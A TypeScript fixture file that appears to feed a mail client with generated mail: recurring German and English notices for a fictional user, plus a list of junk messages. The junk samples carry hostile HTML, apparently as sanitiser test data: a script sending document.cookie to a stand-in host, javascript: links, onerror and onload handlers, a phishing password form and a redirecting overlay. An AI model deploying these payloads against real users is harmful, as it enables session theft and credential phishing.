import type { Address } from '../../../src/core/model/address.ts';
import type { Language } from './people.ts';
import type { ScriptFile } from './scripts/script.ts';

/** Mail that machines and offices send by themselves. */
export type Notice = {
  readonly from: Address;
  readonly language: Language;
  /** Days between two. */
  readonly every: number;
  readonly subject: string;
  readonly text: string;
  readonly file?: ScriptFile;
  readonly name?: string;
  readonly filed?: 'rechnungen' | 'reisen' | 'archive' | 'deleted';
  /** An invitation: days ahead, hour and length in minutes. */
  readonly meeting?: {
    readonly ahead: number;
    readonly hour: number;
    readonly minutes: number;
    readonly place: string;
  };
};

const from = (name: string, address: string): Address => ({ name, address });

export const notices: readonly Notice[] = [
  {
    from: from('Stadtwerke Nordhafen', 'rechnung@stadtwerke-nordhafen.example'),
    language: 'de',
    every: 30,
    subject: 'Ihre Rechnung für $month $year ist da',
    text: 'Guten Tag Mara Feld,\n\nIhre Rechnung Nr. $number-7 über $n71-96,$n10-90 € finden Sie im Anhang. Der Betrag wird am $short+7 abgebucht.\n\nIhr Verbrauch lag [leicht unter|etwas über|auf der Höhe von] dem Vorjahr.',
    file: 'pdf',
    name: 'Rechnung_$month_$year.pdf',
    filed: 'rechnungen',
  },
  {
    from: from('Fernmeldehaus', 'service@fernmeldehaus.example'),
    language: 'de',
    every: 30,
    subject: 'Rechnung $month: $n31-44,$n10-95 EUR',
    text: 'Guten Tag,\n\nIhre Rechnung liegt im Kundenkonto und in diesem Anhang bereit. [Ihr Datenvolumen reichte bis zum letzten Tag.|Sie haben $n2-9 GB übrig gelassen.]',
    file: 'pdf',
    name: 'Fernmeldehaus_$number.pdf',
    filed: 'rechnungen',
  },
  {
    from: from('Paketdienst Möwe', 'sendung@moewe-paket.example'),
    language: 'de',
    every: 11,
    subject: 'Ihre Sendung MW$number kommt [heute|morgen] zwischen [9 und 12|12 und 15|15 und 18] Uhr',
    text: 'Guten Tag,\n\nIhre Sendung MW$number von [Werkzeug Ahlers|Papier & Licht|Bücher am Deich] ist unterwegs. Nicht zu Hause? [Die Nachbarn bei Petersen nehmen sie gern an.|Sie können sie bis heute Abend umleiten.]',
    filed: 'deleted',
  },
  {
    from: from('Schienenweg Fahrkarten', 'karten@schienenweg.example'),
    language: 'de',
    every: 24,
    subject: 'Ihre Fahrkarte nach [Lübeck|Rotterdam|Kopenhagen|Wien|Hannover], $short+6',
    text: 'Gute Reise,\n\nim Anhang finden Sie Ihre Fahrkarte, Auftrag $number. Abfahrt am $day+6 um [6:47|7:21|8:06|9:33], Wagen $n21-29. Bitte halten Sie einen Ausweis bereit.',
    file: 'pdf',
    name: 'Fahrkarte_$number.pdf',
    filed: 'reisen',
  },
  {
    from: from('IT-Service', 'it-service@nordwind.example'),
    language: 'de',
    every: 28,
    subject: 'Wartungsfenster am $day+1, 22:00 bis 02:00 Uhr',
    text: 'Guten Tag,\n\nwährend der Wartung sind [Postfächer und Kalender|die Projektlaufwerke|Telefonie und Konferenzen] bis zu zehn Minuten lang nicht erreichbar. Es ist nichts zu tun.',
    filed: 'archive',
  },
  {
    from: from('Elisa Marchetti', 'elisa.marchetti@nordwind.example'),
    language: 'en',
    every: 35,
    subject: '[Town hall|All hands|Open kitchen], [2nd floor|the Speicher]',
    text: 'Dear all,\n\n[forty-five minutes, three short talks, soup afterwards|we show what each team is proud of, five minutes each, no slides]. Please say whether you come, because of the soup.',
    meeting: { ahead: 6, hour: 12, minutes: 60, place: 'Speicher, 2nd floor' },
  },
  {
    from: from('Elias Böhm', 'boehm@hafen-soehne.example'),
    language: 'de',
    every: 14,
    subject: 'Baubesprechung Lindenhof',
    text: 'Guten Tag zusammen,\n\nTagesordnung wie immer: Stand, Termine, Offenes. [Bitte Helme mitbringen.|Danach Rundgang, festes Schuhwerk.]',
    meeting: { ahead: 5, hour: 9, minutes: 90, place: 'Lindenhof, Container' },
  },
  {
    from: from('Kassenwart Chor am Kai', 'kasse@chor-am-kai.example'),
    language: 'de',
    every: 90,
    subject: 'Beitrag [erstes|zweites|drittes|viertes] Quartal',
    text: 'Liebe Sängerinnen und Sänger,\n\nder Beitrag von 24 Euro wird am $short+10 abgebucht. Wer gerade knapp ist, sagt mir Bescheid und singt trotzdem.',
    filed: 'archive',
  },
  {
    from: from('Leihbücherei Nordhafen', 'ausleihe@buecherei-nordhafen.example'),
    language: 'de',
    every: 27,
    subject: 'Bitte bis $short+3 zurück: [2|3] Medien',
    text: 'Guten Tag Frau Feld,\n\nfolgende Medien sind bis zum $day+3 fällig:\n\n- [Baukonstruktion für Nachsichtige|Die Häuser der Kapitäne]\n- [Kochen ohne Küche|Das große Buch der Knoten]\n\nVerlängern können Sie mit einem Klick, solange niemand wartet.',
    filed: 'deleted',
  },
  {
    from: from('Projektlaufwerk', 'no-reply@nordwind.example'),
    language: 'en',
    every: 4,
    subject:
      '[Jana Brandt|Elias Böhm|Katrin Sievers|Priya Nair] [added $n2-9 files|changed a plan|left a comment] in [Lindenhof|Nordhafen Speicher]',
    text: '[Grundriss 2. OG, Stand $short|Detail Traufe 1:10|Schnitt C-C|Mängelliste] was [added|changed] [this morning|yesterday evening].\n\nYou get one message a day at most.',
    filed: 'archive',
  },
  {
    from: from('Wetterdienst Küste', 'warnung@wetter-kueste.example'),
    language: 'de',
    every: 19,
    subject: '[Windwarnung|Frostwarnung|Starkregen]: Nordhafen, $day+1',
    text: 'Für Ihre Baustellen gilt ab $day+1, [4|6|11] Uhr:\n\n[Böen bis $n70-95 km/h aus West. Bitte Planen und Kräne sichern.|Temperaturen unter minus fünf Grad. Bitte Wasserleitungen entleeren.|Bis $n25-45 Liter je Quadratmeter in sechs Stunden. Bitte Gruben prüfen.]',
    filed: 'deleted',
  },
  {
    from: from('Milan Okafor', 'milan.okafor@nordwind.example'),
    language: 'en',
    every: 30,
    subject: 'Monthly figures, $month',
    text: 'Hi all,\n\nthe figures for $month are attached. [Nothing alarming.|One number is red, on page two, and I know why.] Questions before [noon on $day+2|the meeting on $day+3], please.',
    file: 'table',
    name: 'Figures $month.csv',
    filed: 'archive',
  },
];

/** What the filter puts into Junk: clumsy, loud, and hostile in its HTML. */
export const junk: readonly { readonly from: Address; readonly subject: string; readonly html: string }[] = [
  {
    from: from('Gewinn-Zentrale', 'office@gewinn-zentrale-24.example'),
    subject: 'HERZLICHEN GLÜCKWUNSCH mara.feld, Ihr [Gutschein|Preis] wartet',
    html: '<script>document.location="https://gewinn.example/?c="+document.cookie</script><center><h1 style="color:red;font-size:44px">SIE HABEN GEWONNEN</h1><p>Nur noch <b>$n2-9</b> Minuten gültig. <a href="javascript:alert(document.domain)">JETZT SICHERN</a></p><img src="x" onerror="fetch(\'https://gewinn.example/x\')"></center>',
  },
  {
    from: from('Postfach-Verwaltung', 'admin@nordwind-support.example'),
    subject: 'Ihr Postfach wird in [24|12] Stunden geschlossen',
    html: '<form action="https://nordwind-support.example/login" method="post"><p>Sehr geehrter Nutzer, bitte bestätigen Sie Ihr Passwort:</p><input name="user" value="mara.feld"><input type="password" name="pw"><button>Bestätigen</button></form><meta http-equiv="refresh" content="0;url=https://nordwind-support.example">',
  },
  {
    from: from('Dr. Adaeze W.', 'barrister.adaeze@lawchambers.example'),
    subject: 'Confidential: unclaimed deposit, $n4-19 million',
    html: '<p>Dear beloved,</p><p>I am the barrister of a late client who bears your name. I need only your trust and your bank details.</p><svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text y="20">open</text></a></svg>',
  },
  {
    from: from('Cheap Scaffold Co', 'sale@scaffold-deals.example'),
    subject: 'Scaffold -70% only today [$n100-900 pcs|last container]',
    html: '<style>*{position:fixed;top:0;left:0;z-index:99999;background:url(https://track.scaffold-deals.example/b.gif)}</style><div style="position:absolute;inset:0"><a href="https://scaffold-deals.example">BUY</a></div><iframe src="https://scaffold-deals.example/frame"></iframe><base href="https://scaffold-deals.example/">',
  },
  {
    from: from('Luxusuhren', 'vip@uhren-outlet.example'),
    subject: 'Re: Ihre Bestellung [Nr. $n1000-9000|von gestern]',
    html: '<table background="https://uhren-outlet.example/bg.jpg"><tr><td><img src="https://uhren-outlet.example/$n1-90.jpg" srcset="https://uhren-outlet.example/2x.jpg 2x" width="500"><video autoplay src="https://uhren-outlet.example/v.mp4"></video><p>Original, fast.</p></td></tr></table><object data="https://uhren-outlet.example/o"></object>',
  },
];
